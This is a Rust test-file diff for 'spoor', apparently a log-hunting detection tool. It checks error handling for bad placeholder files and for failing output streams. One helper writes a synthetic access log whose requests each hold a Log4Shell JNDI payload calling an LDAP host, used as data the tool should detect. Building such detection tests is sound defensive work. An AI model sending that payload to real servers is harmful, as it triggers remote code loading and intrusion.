@@ -164,6 +164,29 @@ fn placeholders_fill_expand_rules() {
     let f = findings(&with);
     assert_eq!(f.len(), 1, "the one 4624 of administrator");
     assert_eq!(f[0]["source"]["line"], 110);
+    // A broken placeholder file is refused before the hunt, with its place; a missing one in
+    // words.
+    let bad = dir.path().join("bad.yml");
+    std::fs::write(&bad, "admins:\n  - administrator\n  - {nested: map}\n").unwrap();
+    let gone = dir.path().join("gone.yml");
+    for (file, want) in [
+        (
+            &bad,
+            "bad.yml: line 3, column 5: placeholder values must be scalars",
+        ),
+        (&gone, "cannot read placeholder file"),
+    ] {
+        let out = spoor()
+            .args(["hunt", "--no-builtin", "-r", r, "--placeholders"])
+            .arg(file)
+            .arg(&log)
+            .output()
+            .unwrap();
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{err}");
+        assert!(err.contains(want), "{err}");
+        assert!(!err.contains("os error"), "{err}");
+    }
 }
 
 #[test]
@@ -338,4 +361,110 @@ fn a_failing_output_is_reported_and_changes_the_exit_code() {
         assert_eq!(out.status.code(), Some(2), "{cmd:?}: {err}");
         assert!(err.contains("cannot write output"), "{cmd:?}: {err}");
     }
+}
+
+/// An access log of `n` distinct Log4Shell requests (each a finding of the pack), big enough
+/// that every output of it is larger than a pipe's buffer.
+fn many_findings_log(dir: &Path, n: usize) -> PathBuf {
+    let log = dir.join("access.log");
+    let mut text = String::new();
+    for i in 0..n {
+        text.push_str(&format!(
+            "203.0.113.{} - - [12/Jul/2024:00:{:02}:{:02} +0000] \"GET /app?q=${{jndi:ldap://198.51.100.9/a{i}}} HTTP/1.1\" 200 512 \"-\" \"curl/8.0\"\n",
+            i % 250,
+            (i / 60) % 60,
+            i % 60
+        ));
+    }
+    std::fs::write(&log, text).unwrap();
+    log
+}
+
+/// Issue 17 ("only stdout may close quietly"): `-o`, `--csv` or `--html` into a FIFO whose
+/// reader goes away after one byte fails the run with exit 2 and names that output, and so does
+/// `-o /dev/full`; standard output closed after one byte (`spoor hunt ... | head -c 1`) is the
+/// one quiet case and exits 0.
+#[test]
+fn issue17_only_standard_output_may_close_quietly() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = many_findings_log(dir.path(), 6_000);
+    let spoor_bin = assert_cmd::cargo::cargo_bin("spoor");
+    for flag in ["-o", "--csv", "--html"] {
+        let fifo = dir
+            .path()
+            .join(format!("out{}.fifo", flag.trim_start_matches('-')));
+        let made = std::process::Command::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .expect("mkfifo runs");
+        assert!(made.success(), "mkfifo {}", fifo.display());
+        let child = std::process::Command::new(&spoor_bin)
+            .args(["hunt", "-f", "jsonl", "--no-dedup", flag])
+            .arg(&fifo)
+            .arg(&log)
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        // The reader: opens the FIFO (spoor opens its outputs before reading the log), takes
+        // one byte and goes away. The output is far larger than a pipe holds, so spoor must
+        // write again after the reader has gone. A spoor that never opened the FIFO would leave
+        // this thread blocked; the test then fails on the timeout below instead of hanging.
+        let (tx, rx) = std::sync::mpsc::channel();
+        let reader_path = fifo.clone();
+        std::thread::spawn(move || {
+            use std::io::Read;
+            let got =
+                std::fs::File::open(&reader_path).and_then(|mut f| f.read_exact(&mut [0u8; 1]));
+            let _ = tx.send(got.is_ok());
+        });
+        let read_one = rx
+            .recv_timeout(std::time::Duration::from_secs(120))
+            .unwrap_or(false);
+        let out = child.wait_with_output().unwrap();
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(read_one, "{flag}: the FIFO's reader got no byte: {err}");
+        assert_eq!(out.status.code(), Some(2), "{flag}: {err}");
+        let named = format!("cannot write output {}", fifo.display());
+        assert!(err.contains(&named), "{flag}: {err}");
+        assert!(
+            !err.contains("os error"),
+            "{flag}: the reason in words: {err}"
+        );
+    }
+    // `-o` on a full disk (the other outputs had their /dev/full test above).
+    let out = spoor()
+        .args(["hunt", "-f", "jsonl", "-o", "/dev/full"])
+        .arg(&log)
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "-o /dev/full: {err}");
+    assert!(
+        err.contains("cannot write output /dev/full: no space left on device"),
+        "{err}"
+    );
+    // Standard output whose reader takes one byte and goes (`| head -c 1`): quiet, exit 0.
+    let mut child = std::process::Command::new(&spoor_bin)
+        .args(["hunt", "-f", "jsonl", "--no-dedup"])
+        .arg(&log)
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    {
+        use std::io::Read;
+        let mut stdout = child.stdout.take().unwrap();
+        stdout
+            .read_exact(&mut [0u8; 1])
+            .expect("one byte of output");
+    }
+    let out = child.wait_with_output().unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "a closed stdout is quiet: {err}"
+    );
+    assert!(!err.contains("cannot write output"), "{err}");
 }
